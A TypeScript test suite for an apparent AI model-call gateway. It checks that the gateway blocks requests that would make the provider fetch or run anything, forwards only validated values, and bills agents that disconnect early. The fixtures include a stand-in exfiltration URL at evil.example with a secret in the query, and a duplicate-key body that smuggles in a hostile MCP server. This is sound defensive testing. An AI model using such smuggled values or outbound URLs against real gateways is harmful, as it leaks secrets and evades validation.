import assert from 'node:assert/strict';
import type { ServerResponse } from 'node:http';
import { describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  CALL,
  CANARY,
  type GatewayFixture,
  gatewayFixture,
  type HeldRun,
} from '../support/gateway-fixture.ts';
import { serving } from '../support/serving.ts';

const HELLO = 'scenes: [{ name: hello, steps: [{ say: Hello. }] }]';

describe('a model call that makes the provider reach out', () => {
  const fetched = { type: 'url', url: 'https://evil.example/?c=secret' };
  const image = (source: object) => ({ type: 'image', source });
  const userMessage = (...content: object[]) => ({ messages: [{ role: 'user', content }] });
  const result = (...content: object[]) => ({ type: 'tool_result', tool_use_id: 'x', content });
  const outward = {
    'a search': { tools: [{ name: 'x' }, { type: 'web_search_20250305', name: 'web_search' }] },
    'a fetch': { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
    'code at the provider': { tools: [{ type: 'code_execution_20250825', name: 'c' }] },
    'a kind nobody knows yet': { tools: [{ type: 'carrier_pigeon_20990101', name: 'p' }] },
    'a server of tools': { mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'e' }] },
    'a picture by its address': userMessage(image(fetched)),
    'a document by its address': userMessage({ type: 'document', source: fetched }),
    'a picture in a result': userMessage(result(image(fetched))),
    'a picture in a document': userMessage({
      type: 'document',
      source: { type: 'content', content: [image(fetched)] },
    }),
    'a file of the account': userMessage({
      type: 'document',
      source: { type: 'file', file_id: 'f' },
    }),
    'a file for a container': userMessage({ type: 'container_upload', file_id: 'f' }),
  };

  it('A12: the gateway refuses every model call that makes the provider reach out', async () => {
    await using fixture = await gatewayFixture(HELLO);
    const held = await fixture.held();
    for (const [what, part] of Object.entries(outward)) {
      const { status, body } = await fixture.ask(held, { body: { ...CALL, ...part } });
      assert.equal(status, 400, what);
      assert.match(body.error.message, /may not have the provider fetch or run anything/, what);
      const path = '/gateway/v1/messages/count_tokens';
      const counted = await fixture.ask(held, { path, body: { ...CALL, ...part } });
      assert.equal(counted.status, 400, what);
    }
    assert.equal(fixture.model.requests.length, 0, 'nothing of it reached the provider');
  });

  it('A12: the gateway accepts a model call with inline content and local tools', async () => {
    await using provider = await providerThat((response) => {
      response.writeHead(200, JSON_TYPE).end(JSON.stringify({ usage: { output_tokens: 1 } }));
    });
    await using fixture = await sceneAt(provider.url);
    const data = { type: 'base64', media_type: 'image/png', data: 'AAAA' };
    const { status } = await fixture.ask(await fixture.held(), {
      body: {
        ...CALL,
        system: [{ type: 'text', text: 'Be brief.' }],
        tools: [{ name: 'Read' }, { type: 'custom', name: 'x' }, { type: 'bash_20250124' }],
        messages: [
          { role: 'user', content: [image(data), result({ type: 'text', text: 'x' })] },
          { role: 'assistant', content: [{ type: 'tool_use', input: { source: fetched } }] },
          { role: 'user', content: 'Go on.' },
        ],
      },
    });
    assert.equal(status, 200);
  });

  it('D28: when a model call contains a key twice, the gateway forwards only the value that it checked', async () => {
    await using provider = await providerThat((response, body) => {
      assert.doesNotMatch(body, /evil/);
      response.writeHead(200, JSON_TYPE).end(JSON.stringify({ usage: { output_tokens: 1 } }));
    });
    await using fixture = await sceneAt(provider.url);
    const held = await fixture.held();
    const twice = `{"mcp_servers":[{"url":"https://evil.example"}],${JSON.stringify(CALL).slice(1)}`;
    const { status } = await callModel(fixture, held, twice.replace(/}$/, ',"mcp_servers":[]}'));
    assert.equal(status, 200);
  });
});

describe('an agent that disconnects before the end of the response', () => {
  it('D20: an agent that disconnects during a stream is charged for all of it', async () => {
    const { promise: hasLeft, resolve: leave } = Promise.withResolvers<void>();
    await using provider = await providerThat(async (response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(event('message_start', { message: { usage: { input_tokens: 1000 } } }));
      response.write(event('content_block_delta', { delta: { text: 'all that it wanted' } }));
      await hasLeft;
      response.end(event('message_delta', { usage: { output_tokens: 5000 } }));
    });
    await using fixture = await sceneAt(provider.url);
    const held = await fixture.held();
    const answer = await callModel(fixture, held, JSON.stringify(CALL));
    const reader = answer.body?.getReader() ?? assert.fail('no body');
    let text = '';
    while (!text.includes('all that it wanted')) {
      text += new TextDecoder().decode((await reader.read()).value);
    }
    await reader.cancel();
    leave();
    await spent(fixture, held, 5000);
  });

  it('D20: an agent receives nothing of an unstreamed response before it is charged', async () => {
    const { promise: isReceived, resolve: receive } = Promise.withResolvers<void>();
    const { promise: hasLeft, resolve: leave } = Promise.withResolvers<void>();
    await using provider = await providerThat(async (response) => {
      response.writeHead(200, JSON_TYPE).write('{"content":[{"text":"all that it wanted"}],');
      receive();
      await hasLeft;
      response.end('"usage":{"input_tokens":10,"output_tokens":4000}}');
    });
    await using fixture = await sceneAt(provider.url);
    const held = await fixture.held();
    const leaving = new AbortController();
    let headSeen = false;
    const asking = callModel(
      fixture,
      held,
      JSON.stringify({ ...CALL, stream: false }),
      leaving.signal,
    )
      .then(() => {
        headSeen = true;
      })
      .catch(() => undefined);
    await isReceived;
    await sleep(50);
    leaving.abort();
    await asking;
    assert.equal(headSeen, false);
    leave();
    await spent(fixture, held, 4000);
  });
});

const JSON_TYPE = { 'content-type': 'application/json' };

function event(type: string, more: object): string {
  return `event: ${type}\ndata: ${JSON.stringify({ type, ...more })}\n\n`;
}

/** Waits until the run is charged; if it never is, the suite runs into its own limit. */
async function spent({ hall }: GatewayFixture, { run }: HeldRun, output: number): Promise<void> {
  for (;;) {
    const { body } = await hall.caller.get(`/v1/runs/${run}`);
    if (body.usage.output_tokens === output) return;
    await sleep(20);
  }
}

function sceneAt(url: string): Promise<GatewayFixture> {
  return gatewayFixture(HELLO, { app: { accountOf: () => ({ url, credential: CANARY }) } });
}

function callModel({ hall }: GatewayFixture, held: HeldRun, body: string, signal?: AbortSignal) {
  return fetch(`${hall.url}/gateway/v1/messages`, {
    method: 'POST',
    headers: {
      authorization: `Bearer ${held.worker.token}`,
      'content-type': 'application/json',
      'x-guildhall-run': held.run,
      'x-guildhall-fence': String(held.fence),
    },
    body,
    ...(signal && { signal }),
  });
}

function providerThat(answer: (response: ServerResponse, body: string) => unknown) {
  return serving((request, response) => {
    let body = '';
    request.setEncoding('utf8').on('data', (chunk: string) => {
      body += chunk;
    });
    request.on('end', () => void answer(response, body));
  });
}
